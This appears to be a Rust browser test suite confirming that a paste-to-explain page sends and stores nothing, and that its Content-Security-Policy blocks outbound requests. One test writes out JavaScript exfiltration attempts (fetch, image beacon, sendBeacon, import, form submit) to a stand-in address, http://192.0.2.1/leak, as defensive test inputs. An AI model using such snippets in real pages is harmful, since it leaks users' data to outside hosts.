//! Nothing leaves the page, by the browser's own word and by the log of its proxy, which sees every request.

use crate::visit::{Outcome, Visit};

#[test]
fn a_paste_causes_no_request() -> Outcome {
    let visit = Visit::to("")?;
    visit.settle()?;
    visit.page.requests()?;
    let before = visit.server.requests();
    visit.explain("550 5.1.1 <ann@example.org> no such user, see https://example.org/help")?;
    visit.verdict()?;
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(visit.server.requests(), before);
    assert_eq!(visit.page.requests()?, [] as [String; 0]);
    Ok(())
}

#[test]
fn a_paste_is_not_stored() -> Outcome {
    let visit = Visit::to("")?;
    visit.explain("550 5.1.1 <ann@example.org> no such user")?;
    visit.verdict()?;
    let kept = visit
        .page
        .js("return document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage)")?;
    assert!(!kept.to_string().contains("example.org"), "{kept}");
    assert!(!visit.page.js("return location.href")?.to_string().contains("example.org"));
    Ok(())
}

/// The Content-Security-Policy at work: what a careless or hostile line of code would do.
#[test]
fn the_browser_lets_nothing_out() -> Outcome {
    let visit = Visit::to("")?;
    visit.settle()?;
    let before = visit.server.requests();
    let elsewhere = "http://192.0.2.1/leak";
    let tries = [
        format!("await fetch({elsewhere:?})"),
        format!(
            "await new Promise((ok, no) => Object.assign(new Image(), {{ onload: ok, onerror: no, src: {elsewhere:?} }}))"
        ),
        format!("if (navigator.sendBeacon({elsewhere:?}, 'x')) await new Promise(ok => setTimeout(ok, 300))"),
        "new Function('return 1')()".to_owned(),
        format!("await import({elsewhere:?})"),
        format!(
            "const f = document.body.appendChild(document.createElement('form')); f.action = {elsewhere:?}; f.submit()"
        ),
    ];
    for code in &tries {
        // A refusal may come as an exception or as nothing at all; what counts is the log.
        let _ = visit.page.js_async(code);
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(visit.server.requests(), before);
    let refusals =
        visit.page.console()?.iter().filter(|line| line.contains("Content Security Policy")).count();
    assert!(refusals >= tries.len() - 1, "the policy speaks up: {refusals} of {}", tries.len());
    Ok(())
}

/// A worker from a file would not be under the page's policy; from a blob it is.
#[test]
fn the_worker_is_under_the_same_policy() -> Outcome {
    let visit = Visit::prepare()?;
    visit.page.before_each_page(
        "window.workers = []; const Real = Worker;
         Worker = class extends Real { constructor(url) { super(url); window.workers.push(String(url)) } }",
    )?;
    visit.open("")?;
    visit.settle()?;
    let started = visit
        .page
        .js("return window.workers.length > 0 && window.workers.every(url => url.startsWith('blob:'))")?;
    assert_eq!(started, true);
    Ok(())
}
